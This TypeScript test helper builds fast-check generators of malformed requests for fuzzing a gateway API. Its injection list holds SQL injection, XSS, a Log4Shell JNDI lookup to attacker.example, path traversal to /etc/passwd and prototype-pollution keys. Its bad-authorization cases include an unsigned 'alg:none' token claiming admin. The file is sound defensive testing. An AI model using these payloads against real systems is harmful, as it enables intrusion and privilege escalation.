import fc from 'fast-check';
import type { z } from 'zod';
import { ROLES, type Role } from '../../contracts/auth';
import type { RouteSpec } from '../../services/gateway/routes';

/**
 * Generators of malformed requests for one public route (the fuzz test,
 * test/integration/malformed-requests.test.ts). Every request they make has
 * at least one defect the route's own contract refuses: a path id that is no
 * UUID, a body or query its schema (from the gateway's route table) rejects,
 * a body that is not JSON or not sent as JSON, one too large or too deep, or
 * a malformed token. So none of them may ever write anything.
 */

export interface RawRequest {
  method: string;
  /** Encoded path and query, as sent. */
  path: string;
  headers: Record<string, string>;
  body?: string;
  /** Which defect makes it malformed (shown when a property fails). */
  defect: string;
}

export interface RouteFixture {
  /** A valid value of each path parameter (an existing venue, event, reservation…). */
  params: Record<string, string>;
  /** A body the route would accept as it is (the mutations start from it). */
  body?: unknown;
  /** A query the route would accept. */
  query?: Record<string, string>;
  /** The bearer token of a caller the route admits, if it needs one. */
  token?: string;
  /** A read that writes (the audit entry of a check-in kit): junk it ignores does not make it malformed. */
  auditedRead?: boolean;
}

export const INJECTIONS = [
  "' OR '1'='1",
  "'; DROP TABLE auth.users; --",
  '<script>alert(1)</script>',
  '${jndi:ldap://attacker.example/a}',
  '{{7*7}}',
  '../../../../etc/passwd',
  '\u0000',
  '%00',
  '__proto__',
  'constructor',
  '\u202eevil',
  '😀'.repeat(40),
  '$where: 1',
  '{"$gt": ""}',
] as const;

const UUID = /^[0-9a-f]{8}-[0-9a-f]{4}-[0-9a-f]{4}-[0-9a-f]{4}-[0-9a-f]{12}$/i;

/** Path segments that are no UUID, already percent-encoded (some deliberately badly). */
const badPathSegment: fc.Arbitrary<string> = fc.oneof(
  fc.constantFrom(...INJECTIONS, '00000000-0000-0000-0000-00000000000g', '123', 'null', 'undefined', 'a'.repeat(3000)).map(encodeURIComponent),
  fc.uuid().map((u) => encodeURIComponent(`${u}x`)),
  fc.uuid().map((u) => u.replace(/-/g, '')),
  fc.string({ maxLength: 60 }).filter((s) => s.length > 0 && !UUID.test(s)).map(encodeURIComponent),
  // Percent-encodings that do not decode.
  fc.constantFrom('%E0%A4%A', '%', '%zz', '%C0%AF', '%uD800'),
);

const badDate = fc.constantFrom('2026-13-45T25:61:00Z', 'yesterday', '0000-00-00T00:00:00Z', '2026-02-30T10:00:00', '+275760-09-13T00:00:00.001Z', 'NaN', '1e10', '');
const extremeNumber = fc.constantFrom(-1, 0, -0.5, 1.5, -1e308, 1e308, 2 ** 53 + 2, -(2 ** 31), 1e21);
const wrongType: fc.Arbitrary<unknown> = fc.oneof(
  fc.integer(),
  fc.double({ noNaN: true, noDefaultInfinity: true }),
  fc.boolean(),
  fc.constant(null),
  fc.array(fc.jsonValue({ maxDepth: 1 }), { maxLength: 3 }),
  fc.dictionary(fc.string({ maxLength: 8 }), fc.jsonValue({ maxDepth: 1 }), { maxKeys: 3 }),
  fc.string({ maxLength: 20 }),
);
/** Too long for every text field of the API (the longest allows 5,000 characters), still under the 64 KiB body limit. */
const overlong = fc.integer({ min: 10_001, max: 20_000 }).chain((n) => fc.constantFrom('x', 'é', '😀', "'").map((c) => c.repeat(Math.ceil(n / c.length))));
/** A raw JSON literal that JSON.stringify cannot write: replaced into the text after serializing. */
const RAW_MARK = '__raw_json_literal__';
const rawLiteral = fc.constantFrom('1e400', '-1e400', '123456789012345678901234567890', '0.0000000000000000000000000001');

/** `depth` arrays nested in each other: JSON that is valid, and deeper than anything the API takes. */
export const deepJson = (depth: number) => `${'['.repeat(depth)}${']'.repeat(depth)}`;

type Path = (string | number)[];
function leafPaths(value: unknown, at: Path = []): Path[] {
  if (Array.isArray(value)) return [at, ...value.flatMap((v, i) => leafPaths(v, [...at, i]))];
  if (value && typeof value === 'object') return [at, ...Object.entries(value).flatMap(([k, v]) => leafPaths(v, [...at, k]))];
  return [at];
}
const clone = <T>(v: T): T => (v === undefined ? v : JSON.parse(JSON.stringify(v)));
function setAt(root: unknown, path: Path, change: (parent: any, key: string | number) => void): unknown {
  const copy = clone(root);
  if (path.length === 0) return copy;
  let parent: any = copy;
  for (const key of path.slice(0, -1)) parent = parent[key];
  change(parent, path[path.length - 1]!);
  return copy;
}

type Mutation = { text: string; label: string };
const json = (value: unknown) => JSON.stringify(value) ?? 'null';

/** One to three changes to a valid value, kept only when the schema refuses the result. */
function mutated(valid: unknown, schema: z.ZodType): fc.Arbitrary<Mutation> {
  const paths = leafPaths(valid);
  const one = (value: unknown): fc.Arbitrary<{ value: unknown; label: string; raw?: string }> =>
    fc.constantFrom(...leafPaths(value)).chain((path) => {
      const where = path.join('.') || '(root)';
      const replace = (label: string, arb: fc.Arbitrary<unknown>) =>
        arb.map((v) => ({ value: path.length ? setAt(value, path, (p, k) => void (p[k] = v)) : v, label: `${label} at ${where}` }));
      return fc.oneof(
        replace('wrong type', wrongType),
        replace('overlong string', overlong),
        replace('bad UUID', badPathSegment.map(decodeURIComponentSafe)),
        replace('bad date', badDate),
        replace('extreme number', extremeNumber),
        replace('injection string', fc.constantFrom(...INJECTIONS)),
        fc.constant({ value: setAt(value, path, (p, k) => (Array.isArray(p) ? p.splice(Number(k), 1) : delete p[k])), label: `missing ${where}` }),
        fc
          .constantFrom('__proto__', 'constructor', 'extra', 'isAdmin', 'role', '')
          .map((key) => ({ value: addKey(value, path, key), label: `extra field "${key}" near ${where}` })),
        rawLiteral.map((lit) => ({ value: path.length ? setAt(value, path, (p, k) => void (p[k] = RAW_MARK)) : RAW_MARK, label: `number ${lit} at ${where}`, raw: lit })),
      );
    });
  if (paths.length === 0) return fc.constant({ text: '{}', label: 'empty' });
  return fc
    .integer({ min: 1, max: 3 })
    .chain((n) => {
      let arb = one(valid);
      for (let i = 1; i < n; i++) arb = arb.chain((m) => one(m.value).map((m2) => ({ ...m2, label: `${m.label}; ${m2.label}`, raw: m2.raw ?? m.raw })));
      return arb;
    })
    .map(({ value, label, raw }) => ({ text: raw ? json(value).replace(`"${RAW_MARK}"`, raw) : json(value), label }))
    .filter(({ text }) => refuses(schema, text));
}

function addKey(root: unknown, path: Path, key: string): unknown {
  const copy: any = clone(root);
  // The nearest object at or above the path gets the extra key.
  let target = copy;
  let best = copy;
  for (const k of path) {
    target = target?.[k];
    if (target && typeof target === 'object' && !Array.isArray(target)) best = target;
  }
  if (!best || typeof best !== 'object' || Array.isArray(best)) return { value: copy, [key || 'extra']: true };
  Object.defineProperty(best, key, { value: 'fuzz', enumerable: true, configurable: true, writable: true });
  return copy;
}

function decodeURIComponentSafe(s: string): string {
  try {
    return decodeURIComponent(s);
  } catch {
    return s;
  }
}

/** Whether the schema refuses this JSON text (text that does not even parse is refused). */
export function refuses(schema: z.ZodType, text: string): boolean {
  try {
    return !schema.safeParse(JSON.parse(text)).success;
  } catch {
    return true;
  }
}

const notJson = fc.oneof(
  fc.constantFrom('{', '{"a":', '{"a" 1}', "{'a': 1}", '[1,2', 'undefined', 'NaN', '{"a":1,}', '\u0000', '{"a":"\\x00"}', '<xml/>', 'a=1&b=2'),
  fc.string({ minLength: 1, maxLength: 200 }).filter((s) => {
    try {
      JSON.parse(s);
      return false;
    } catch {
      return true;
    }
  }),
);
const notAnObject = fc.oneof(fc.array(fc.jsonValue({ maxDepth: 1 }), { maxLength: 5 }), fc.integer(), fc.string({ maxLength: 20 }), fc.boolean(), fc.constant(null)).map(json);
const wrongContentType = fc.constantFrom(
  'text/plain',
  'application/x-www-form-urlencoded',
  'multipart/form-data; boundary=fuzz',
  'application/xml',
  'application/json; charset=utf-16',
  'application/json; charset=latin1',
  'application/merge-patch+json',
  'image/png',
);
const badAuthorization = fc.oneof(
  fc.constantFrom('Bearer', 'Bearer ', 'Basic YWRtaW46YWRtaW4=', 'Bearer null', 'Bearer a.b.c', 'bearer', `Bearer ${'x'.repeat(8000)}`),
  // An unsigned token claiming to be an admin.
  fc.constant(`Bearer ${Buffer.from('{"alg":"none","typ":"JWT"}').toString('base64url')}.${Buffer.from('{"sub":"x","roles":["admin"]}').toString('base64url')}.`),
  fc.string({ maxLength: 100 }).map((s) => `Bearer ${s.replace(/[^\x21-\x7e]/g, 'x')}`),
);

const pathParams = (route: RouteSpec) => [...route.path.matchAll(/\{(\w+)\}/g)].map((m) => m[1]!);
const fillPath = (route: RouteSpec, params: Record<string, string>) =>
  route.path.replace(/\{(\w+)\}/g, (_, name: string) => params[name] ?? encodeURIComponent(name));
const queryString = (q: Record<string, unknown> | undefined) => {
  if (!q || Object.keys(q).length === 0) return '';
  const search = new URLSearchParams();
  for (const [k, v] of Object.entries(q)) for (const one of Array.isArray(v) ? v : [v]) search.append(k, typeof one === 'string' ? one : json(one));
  return `?${search}`;
};

/** Every kind of malformed request the route can be sent, each refused by its contract. */
export function malformedRequests(route: RouteSpec, f: RouteFixture): fc.Arbitrary<RawRequest> {
  const method = route.method.toUpperCase();
  const params = pathParams(route);
  const auth: Record<string, string> = f.token ? { authorization: `Bearer ${f.token}` } : {};
  const validPath = fillPath(route, f.params) + queryString(f.query);
  const validBody = f.body === undefined ? undefined : json(f.body);
  const jsonHeaders = (extra: Record<string, string> = {}): Record<string, string> => ({ ...auth, ...(validBody === undefined ? {} : { 'content-type': 'application/json' }), ...extra });
  const kinds: fc.Arbitrary<RawRequest>[] = [];
  const anyBody = fc.oneof(fc.constant(validBody), notJson, notAnObject);

  if (params.length) {
    // A path id that is no UUID (the queue token and the role are checked as what they are).
    kinds.push(
      fc.record({ name: fc.constantFrom(...params), value: badPathSegment.filter((v) => !ROLES.includes(decodeURIComponentSafe(v) as Role)), body: anyBody }).map(({ name, value, body }) => ({
        method,
        path: fillPath(route, { ...f.params, [name]: value }) + queryString(f.query),
        headers: body === undefined ? { ...auth } : { ...auth, 'content-type': 'application/json' },
        body,
        defect: `path ${name} = ${value.slice(0, 80)}`,
      })),
    );
  }
  if (route.body) {
    const schema = route.body;
    const bodyDefects: fc.Arbitrary<{ text: string; label: string; contentType?: string }>[] = [
      notJson.map((text) => ({ text, label: 'not JSON' })),
      notAnObject.filter((text) => refuses(schema, text)).map((text) => ({ text, label: 'JSON but not an object' })),
      mutated(f.body, schema),
      fc.integer({ min: 70_000, max: 300_000 }).map((n) => ({ text: json({ padding: 'x'.repeat(n) }), label: `body of ${n} bytes` })),
      fc.integer({ min: 2_000, max: 20_000 }).map((depth) => ({ text: `{"nested":${deepJson(depth)}}`, label: `arrays ${depth} deep` })),
    ];
    // A body that is not sent as JSON is no body, which a route with an optional body accepts.
    if (!route.bodyOptional) bodyDefects.push(wrongContentType.map((contentType) => ({ text: validBody ?? '{}', label: `content-type ${contentType}`, contentType })));
    kinds.push(
      fc.oneof(...bodyDefects).map(({ text, label, contentType }) => ({
        method,
        path: validPath,
        headers: jsonHeaders(contentType ? { 'content-type': contentType } : {}),
        body: text,
        defect: `body: ${label}`,
      })),
    );
  }
  if (route.query) {
    const schema = route.query;
    kinds.push(
      mutated(f.query ?? {}, schema).map(({ text, label }) => {
        const q = JSON.parse(text);
        return { method, path: fillPath(route, f.params) + queryString(q && typeof q === 'object' && !Array.isArray(q) ? q : { q }), headers: jsonHeaders(), body: validBody, defect: `query: ${label}` };
      }).filter((r) => refusesQuery(schema, r.path)),
    );
  }
  if (route.access !== 'public') {
    kinds.push(
      fc.record({ authorization: badAuthorization, body: anyBody }).map(({ authorization, body }) => ({
        method,
        path: validPath,
        headers: { authorization, ...(body === undefined ? {} : { 'content-type': 'application/json' }) },
        body,
        defect: `authorization: ${authorization.slice(0, 60)}`,
      })),
    );
  }
  if (method === 'GET' && !f.auditedRead) {
    // Reads write nothing whatever they are sent: junk queries, headers and bodies.
    kinds.push(
      fc
        .record({ key: fc.oneof(fc.constantFrom(...INJECTIONS), fc.string({ maxLength: 20 })), value: fc.oneof(fc.constantFrom(...INJECTIONS), fc.string({ maxLength: 50 })), body: anyBody })
        .map(({ key, value, body }) => ({
          method,
          path: `${validPath}${validPath.includes('?') ? '&' : '?'}${encodeURIComponent(key)}=${encodeURIComponent(value)}`,
          headers: { ...auth, 'if-none-match': value.replace(/[^\x20-\x7e]/g, ''), ...(body === undefined ? {} : { 'content-type': 'application/json' }) },
          body,
          defect: `junk query ${key}=${value}`.slice(0, 120),
        })),
    );
  }
  if (kinds.length === 0) throw new Error(`no malformed request can be made for ${method} ${route.path}`);
  return fc.oneof(...kinds);
}

/** Whether the query schema refuses the query of this path (as the service reads it: a repeated key is an array). */
function refusesQuery(schema: z.ZodType, path: string): boolean {
  const search = new URLSearchParams(path.split('?')[1] ?? '');
  const q: Record<string, string | string[]> = {};
  for (const [k, v] of search) {
    const prev = q[k];
    q[k] = prev === undefined ? v : Array.isArray(prev) ? [...prev, v] : [prev, v];
  }
  return !schema.safeParse(q).success;
}
